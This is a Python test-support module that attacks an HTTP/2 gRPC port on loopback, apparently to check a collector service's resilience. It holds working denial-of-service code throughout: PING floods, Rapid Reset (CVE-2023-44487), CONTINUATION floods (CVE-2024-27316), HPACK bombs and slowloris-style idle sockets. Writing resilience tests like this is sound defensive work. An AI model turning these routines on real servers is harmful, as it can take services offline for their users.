"""Attack a gRPC port as a hostile client, with hand-written bytes; loopback only.

Run as a program: `python -m support.hostile_http2 ATTACK PORT`; prints JSON: what was sent, and
whether and how the server ended it.
"""

import contextlib
import errno
import json
import resource
import select
import socket
import ssl
import struct
import sys
import time
from collections import Counter
from collections.abc import Iterator
from itertools import chain

HOST = "127.0.0.1"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_HEADERS, ACK = 4, 1
CANCEL = 8
SLOW, IDLE = 1_800, 200  # sockets that say nothing or half a hello; that shake hands and stop
PINGS, RESETS, PIECES = 20_000, 5_000, 200_000
WAIT_S = 45.0


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def headers(stream: int) -> bytes:
    """Return a call of the session; fields literal, not indexed (RFC 7541, 6.2.2)."""
    fields = {
        ":method": "POST",
        ":scheme": "https",
        ":path": "/heliograph.v1.Intake/Session",
        ":authority": "heliograph-collector",
        "content-type": "application/grpc",
        "te": "trailers",
    }
    block = b"".join(
        b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
        for name, value in fields.items()
    )
    return frame(HEADERS, END_HEADERS, stream, block)


def secured(line: socket.socket) -> ssl.SSLSocket:
    """Wrap a socket in TLS without verification: an attacker does not verify servers."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(line, server_hostname="heliograph-collector")


def opened(port: int) -> ssl.SSLSocket:
    line = secured(socket.create_connection((HOST, port), timeout=60))
    line.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return line


def flood(port: int, pieces: Iterator[bytes]) -> dict[str, object]:
    """Send all pieces while reading; return how the server ended the connection.

    Its GOAWAY can be lost: data on its way to a closed socket is answered by a reset, which empties
    the buffer on this side.
    """
    line, sent, heard, ended = opened(port), 0, bytearray(), True
    try:
        for piece in pieces:
            line.settimeout(5)
            line.sendall(piece)
            sent += 1
            while select.select([line], [], [], 0)[0] or line.pending():
                more = line.recv(65_536)
                heard += more
                if not more:
                    raise ConnectionResetError
        line.settimeout(5)
        while more := line.recv(65_536):
            heard += more
    except TimeoutError:
        ended = False
    except OSError:
        pass
    kinds, why = read_frames(bytes(heard))
    line.close()
    return {"sent": sent, "frames": kinds, "goaway": why, "ended": ended}


def read_frames(heard: bytes) -> tuple[dict[int, int], list[str]]:
    """Return the count of each kind of frame, and the reasons in GOAWAY frames."""
    kinds: Counter[int] = Counter()
    why = []
    while len(heard) >= 9:
        length, kind = int.from_bytes(heard[:3], "big"), heard[3]
        payload, heard = heard[9 : 9 + length], heard[9 + length :]
        kinds[kind] += 1
        if kind == GOAWAY:
            code = int.from_bytes(payload[4:8], "big")
            why.append(f"{code} {payload[8:].decode(errors='replace')}")
    return dict(kinds), why


def pings(port: int) -> dict[str, object]:
    return flood(port, (frame(PING, 0, 0, bytes(8)) * 10 for _ in range(PINGS // 10)))


def resets(port: int) -> dict[str, object]:
    """Open and cancel streams without meeting their limit (CVE-2023-44487)."""
    cancel = struct.pack(">I", CANCEL)
    pieces = (
        headers(stream) + frame(RST_STREAM, 0, stream, cancel) for stream in range(1, 2 * RESETS, 2)
    )
    return flood(port, pieces)


def continuations(port: int) -> dict[str, object]:
    """Send headers without end, in pieces with a field or without (CVE-2024-27316)."""
    field = b"\x00\x01a\x01b"
    begun = headers(1)
    begun = begun[:4] + bytes((begun[4] & ~END_HEADERS,)) + begun[5:]
    pieces = (
        frame(CONTINUATION, 0, 1, field * (number % 2)) * 20 for number in range(PIECES // 20)
    )
    return flood(port, chain((begun,), pieces))


def bombs(port: int) -> dict[str, object]:
    """Send one large field into HPACK's table, then one byte for each repetition."""
    value = b"x" * 4_000
    stored = b"\x40\x01a" + b"\x7f" + bytes((len(value) - 127 & 127 | 128, len(value) - 127 >> 7))
    heads = (
        frame(
            HEADERS, END_HEADERS, stream, (stored + value if stream == 1 else b"") + b"\xbe" * 8_000
        )
        for stream in range(1, 401, 2)
    )
    return flood(port, heads)


def slow(port: int) -> dict[str, object]:
    """Hold idle sockets open until the server has closed them all."""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    lines, refused = [], 0
    for number in range(SLOW):
        try:
            line = socket.create_connection((HOST, port), timeout=60)
            if number % 2:
                line.sendall(b"\x16\x03\x01\x02\x00\x01")  # a ClientHello begins
            lines.append(line)
        except OSError:
            refused += 1
    idle = 0
    for _ in range(IDLE):
        with contextlib.suppress(OSError):
            lines.append(opened(port))
            idle += 1
    print(json.dumps({"open": len(lines)}), flush=True)
    began = time.monotonic()
    closed = until_closed([*lines])
    return {"asked": SLOW + IDLE, "refused": refused, "idle": idle, "closed": closed,
            "of": len(lines), "within_s": round(time.monotonic() - began, 1)}  # fmt: skip


def until_closed(lines: list[socket.socket]) -> int:
    poll, left = select.poll(), {}
    for line in lines:
        line.setblocking(False)
        poll.register(line, select.POLLIN | select.POLLHUP)
        left[line.fileno()] = line
    count, end = len(left), time.monotonic() + WAIT_S
    while left and time.monotonic() < end:
        for number, _ in poll.poll(1_000):
            if is_closed(left[number]):
                poll.unregister(number)
                left.pop(number).close()
    return count - len(left)


def is_closed(line: socket.socket) -> bool:
    try:
        while line.recv(65_536):
            pass
    except (ssl.SSLWantReadError, BlockingIOError):
        return False
    except OSError as error:
        return error.errno != errno.EAGAIN
    return True


ATTACKS = {
    "slow": slow,
    "pings": pings,
    "resets": resets,
    "continuations": continuations,
    "bombs": bombs,
}

if __name__ == "__main__":
    print(json.dumps(ATTACKS[sys.argv[1]](int(sys.argv[2]))))
